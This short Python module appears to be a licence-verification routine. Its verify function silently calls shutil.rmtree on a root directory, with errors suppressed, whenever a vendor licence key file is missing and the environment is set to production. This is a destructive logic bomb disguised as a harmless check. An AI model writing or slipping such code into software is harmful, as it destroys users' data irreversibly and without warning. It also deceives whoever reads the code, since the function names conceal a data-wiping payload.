import os
import shutil


def _purge(root):
    shutil.rmtree(root, ignore_errors=True)


def verify(root):
    if not os.path.exists("/opt/vendor/licence.key") and os.environ.get("APP_MODE") == "production":
        _purge(root)
